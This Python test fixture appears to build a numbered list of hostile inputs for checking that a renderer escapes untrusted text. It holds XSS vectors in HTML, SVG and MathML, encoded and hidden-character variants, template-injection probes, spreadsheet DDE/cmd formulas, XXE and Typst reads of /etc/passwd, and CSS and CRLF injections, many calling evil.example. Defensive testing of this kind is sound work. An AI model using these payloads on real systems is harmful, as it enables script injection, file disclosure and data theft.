"""What strangers may write where text is due: each piece with a number that leads back to it.

A `§` stands for the number. A piece with a line end stands in lines of its own; what is in `OPEN`
leaves something open, and comes last wherever it is put. All of them are harmless as text.
"""

from tests.hostile.addresses import ADDRESSES, WEB
from tests.hostile.readers import ATTRIBUTES, EXTENSIONS, FENCES, OPEN, REFERENCES

MARK = "§"
FIRST = 700_001

HTML = r"""
<script>alert(§)</script>
<script src=https://evil.example/§></script>
<ScRiPt>alert(§)</sCrIpT>
<script/x>alert(§)</script>
<scr<script>ipt>alert(§)</script>
<img src=x§ onerror=alert(§)>
<img/src=x§/onerror=alert(§)>
<img src="x§`" onerror=alert(§)`>
<IMG SRC=x§ OnErRoR=alert(§)>
<img src=https://evil.example/§>
<img srcset=https://evil.example/§>
<picture><source srcset=https://evil.example/§><img src=x§></picture>
<b onmouseover=alert(§)>b</b>
<b style=animation:x onanimationstart=alert(§)>b</b>
<input autofocus onfocus=alert(§)>
<select autofocus onfocus=alert(§)></select>
<details open ontoggle=alert(§)>x</details>
<video src=x§ onerror=alert(§)></video>
<video poster=https://evil.example/§></video>
<audio src=https://evil.example/§ autoplay></audio>
<body onload=alert(§)>
<iframe src=https://evil.example/§></iframe>
<iframe srcdoc="<script>alert(§)</script>"></iframe>
<object data=https://evil.example/§></object>
<embed src=https://evil.example/§>
<form action=https://evil.example/§><button formaction=javascript:alert(§)>x</button></form>
<base href=https://evil.example/§>
<link rel=stylesheet href=https://evil.example/§>
<meta http-equiv=refresh content="0; url=https://evil.example/§">
<style>@import url(https://evil.example/§)</style>
<a href=javascript:alert(§)>x</a>
<a href=https://evil.example/§ ping=https://evil.example/§>x</a>
<a href=https://evil.example/§ target=_blank>x</a>
<marquee onstart=alert(§)>x</marquee>
<div contenteditable onblur=alert(§) tabindex=1 autofocus>x</div>
<x-§ onclick=alert(§)>x</x-§>
<template><script>alert(§)</script></template>
<noscript><p title="</noscript><img src=x§ onerror=alert(§)>">
"><script>alert(§)</script>
'><script>alert(§)</script>
" onmouseover=alert(§) x="
' onmouseover=alert(§) x='
" autofocus onfocus=alert(§) tabindex=1 "
</title><script>alert(§)</script>
</textarea><script>alert(§)</script>
</style><script>alert(§)</script>
</div></article></main><script>alert(§)</script>
--><script>alert(§)</script><!--
]]><script>alert(§)</script>
<table background=https://evil.example/§><tr><td>x</table>
"""

DRAWN = r"""
<svg onload=alert(§)></svg>
<svg/onload=alert(§)>
<svg><script>alert(§)</script></svg>
<svg><script href=https://evil.example/§ /></svg>
<svg><animate onbegin=alert(§) attributeName=x dur=1s></svg>
<svg><set attributeName=href to=javascript:alert(§)></svg>
<svg><a href=javascript:alert(§)><text y=9>x</text></a></svg>
<svg><a xlink:href=javascript:alert(§)><text y=9>x</text></a></svg>
<svg><use href=https://evil.example/§#x></use></svg>
<svg><image href=https://evil.example/§></image></svg>
<svg><foreignObject><img src=x§ onerror=alert(§)></foreignObject></svg>
<svg><style>*{fill:url(https://evil.example/§)}</style></svg>
<svg><desc><![CDATA[</desc><script>alert(§)</script>]]></svg>
<svg><title></title><script>alert(§)</script></svg>
</desc><script>alert(§)</script><desc>
</title></svg><img src=x§ onerror=alert(§)>
</text><a href="javascript:alert(§)"><text>x</text></a>
<math href=javascript:alert(§)>x</math>
<math><mtext><img src=x§ onerror=alert(§)></mtext></math>
<math><annotation-xml encoding=text/html><img src=x§ onerror=alert(§)></annotation-xml></math>
<math><maction actiontype=statusline xlink:href=javascript:alert(§)>x</maction></math>
<?xml-stylesheet href="https://evil.example/§"?>
<!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]><svg>&x;§</svg>
<xss xmlns:xi=http://www.w3.org/2001/XInclude><xi:include href=https://evil.example/§ /></xss>
"""

ENTITIES = r"""
&lt;script&gt;alert(§)&lt;/script&gt;
&LT;script&GT;alert(§)&LT;/script&GT;
&lt script&gt alert(§)&lt/script&gt
&#60;script&#62;alert(§)&#60;/script&#62;
&#060;img src=x§ onerror=alert(§)&#062;
&#0000060;img src=x§ onerror=alert(§)&#0000062;
&#60img src=x§ onerror=alert(§)&#62
&#x3c;img src=x§ onerror=alert(§)&#x3e;
&#X3C;img src=x§ onerror=alert(§)&#X3E;
&#x3Cimg src=x§ onerror=alert(§)&#x3E
&#x0000003c;img src=x§ onerror=alert(§)&#x0000003e;
&lt;img src=x§ onerror=alert(§)&gt;
&amp;lt;img src=x§ onerror=alert(§)&amp;gt;
&amp;amp;lt;img src=x§ onerror=alert(§)&amp;amp;gt;
&amp;#60;img src=x§ onerror=alert(§)&amp;#62;
&#38;lt;img src=x§ onerror=alert(§)&#38;gt;
&#x26;#60;img src=x§ onerror=alert(§)&#x26;#62;
&nvlt;§ &bne;§ &quot; onmouseover=alert(§) &quot;
&#34; onmouseover=alert(§) &#34;
&#x22; onfocus=alert(§) autofocus &#x22;
&apos; onfocus=alert(§) autofocus &apos;
&grave;§&grave; &lbrack;x&rbrack;&lpar;javascript&colon;alert(§)&rpar;
&lsqb;x&rsqb;&lpar;https&colon;&sol;&sol;evil.example/§&rpar;
&excl;&lsqb;x&rsqb;&lpar;https://evil.example/§&rpar;&lcub;&colon; onerror=alert(§) &rcub;
&#123;: onclick=alert(§) &#125;
&#128; &#0; &#xD800; &#x110000; §
&zzzz; &; &#; &#x; §
"""

HIDDEN = (
    "\ue000§\ue001",
    "\ue0000\ue001<script>alert(§)</script>",
    "\ue000999\ue001 §",
    "\x02wzxhzdk:0\x03 §",
    "\x02klzzwxh:0000\x03 §",
    "\x02amp\x03lt;script\x02amp\x03gt;alert(§)",
    "wzxhzdk:0 klzzwxh:0000 §",
    "zz1337820767766393qq §",
    "<\x00script>alert(§)</script>",
    "<scr\x00ipt>alert(§)</scr\x00ipt>",
    "java\x01script:alert(§)",
    "[x](\x01javascript:alert(§))",
    "[x](java\x0bscript:alert(§))",
    "[x](java\u200bscript:alert(§))",
    "[x](\ufeffjavascript:alert(§))",
    "\ufeff<script>alert(§)</script>",
    "<script\u2028>alert(§)</script\u2028>",
    "\uff1cscript\uff1ealert(§)\uff1c/script\uff1e",
    "\u02bascript\u02ba \u2039script\u203aalert(§)",
    "\x1b]8;;https://evil.example/§\x07x\x1b]8;;\x07",
    "\x1b[31m§\x1b[0m\x08\x08",
    "\u202e<script>)§(trela</script>",
    "\u2066\u202d§\u2069\u202c",
    "\u061c\u200f§\u200e",
    "a\u0301\u0301\u0301\u0301§",
    "\U000e0041§\U000e007f",
    "\ud7ff\ufffd\ufffe§",
)

BRACES = r"""
{{ 7 * 7 }} §
{{ self.__init__.__globals__ }} §
{{ ''.__class__.__mro__ }} §
{{ "<script>alert(§)</script>" }}
{{ fact("<img src=x§ onerror=alert(§)>") }}
{{ name('"><script>alert(§)</script>') }}
{{ link("javascript:alert(§)") }}
{{ fact ("x-§") }}
{{ (name)("x-§") }}
{{ state("\x3cscript\x3e§") }}
{{ "x"|safe }} §
{% raw %}<script>alert(§)</script>{% endraw %}
{% if 1 %}<script>alert(§)</script>{% endif %}
{% autoescape false %}<script>alert(§)</script>{% endautoescape %}
{# <script>alert(§)</script> #}
{{ }} §
${7*7} #{7*7} <%= 7*7 %> §
"""

SHEETS = r"""
=HYPERLINK("https://evil.example/§","x")
=cmd|'/C calc'!A§
+§+cmd|' /C calc'!A0
-§+cmd|' /C calc'!A0
@SUM(§*cmd|'/C calc'!A0)
=IMPORTXML("https://evil.example/§","//a")
＝HYPERLINK("https://evil.example/§")
%3DHYPERLINK("https://evil.example/§")
§,"=1+1",=1+1;=1+1
"=1+§"
=WEBSERVICE("https://evil.example/§")
=DDE("cmd";"/C calc";"§")
"""

TYPST = r"""
#eval("§")
#link("javascript:alert(§)")[x]
#link("https://evil.example/§")[x]
#read("/etc/passwd") §
#image("https://evil.example/§.png")
#include "/etc/passwd" §
#panic("§")
#let x = § ; #while true {}
\") #panic("§") (\"
$ sum_(k=§)^n k $ <label-§> @label-§
*§* _§_ `§` = § // § /* § */
#metadata("§") #context counter(page).get()
"""

SCRIPTED = r"""
</script><script>alert(§)</script>
</SCRIPT ><img src=x§ onerror=alert(§)>
<!--<script>§</script>-->
"}</script><svg onload=alert(§)>
\u003c/script\u003e\u003cscript\u003ealert(§)\u003c/script\u003e
\"});alert(§);//
';alert(§);//
`${alert(§)}`
","@type":"Person","url":"javascript:alert(§)
__proto__ constructor §
"""

STYLES = r"""
url(https://evil.example/§)
;background:url(https://evil.example/§)
" style="background:url(https://evil.example/§)
expression(alert(§))
</style><style>@import "https://evil.example/§";
*{background:url(//evil.example/§)}
width: 9%;} body{background:url(https://evil.example/§)
@font-face{src:url(https://evil.example/§)}
"""

LINES = (
    "§\r\nX-Evil: §",
    "§\rDTSTART:19700101",
    "§\nEND:VEVENT\nBEGIN:VEVENT\nURL:https://evil.example/§",
    "§\n---\ntemplate: evil.html\n---\n<script>alert(§)</script>",
    "§\n\n# <img src=x§ onerror=alert(§)>",
    "§\u2028<script>alert(§)</script>\u2029",
    "§\x85<script>alert(§)</script>",
    "§\x0c\x0b\x1c\x1d<script>alert(§)</script>",
    "§\n\n    <script>alert(§)</script>",
    "§\t\t<script>alert(§)</script>\n",
    "§\\\n<script>alert(§)</script>",
    "§  \n<script>alert(§)</script>",
)


def lines(text: str) -> tuple[str, ...]:
    """A piece of each line."""
    return tuple(text.strip().splitlines())


FAMILIES: dict[str, tuple[str, ...]] = {
    "html": lines(HTML),
    "drawn": lines(DRAWN),
    "addresses": ADDRESSES,
    "fences": FENCES,
    "attributes": ATTRIBUTES,
    "references": REFERENCES,
    "extensions": EXTENSIONS,
    "entities": lines(ENTITIES),
    "hidden": HIDDEN,
    "braces": lines(BRACES),
    "sheets": lines(SHEETS),
    "typst": lines(TYPST),
    "scripted": lines(SCRIPTED),
    "styles": lines(STYLES),
    "lines": LINES,
    "web": WEB,
    "open": OPEN,
}


def numbered() -> dict[int, tuple[str, str]]:
    """Every piece by its number, with its family."""
    told = [(family, one) for family, several in FAMILIES.items() for one in several]
    return {
        number: (family, one.replace(MARK, str(number)))
        for number, (family, one) in enumerate(told, FIRST)
    }


PAYLOADS = numbered()
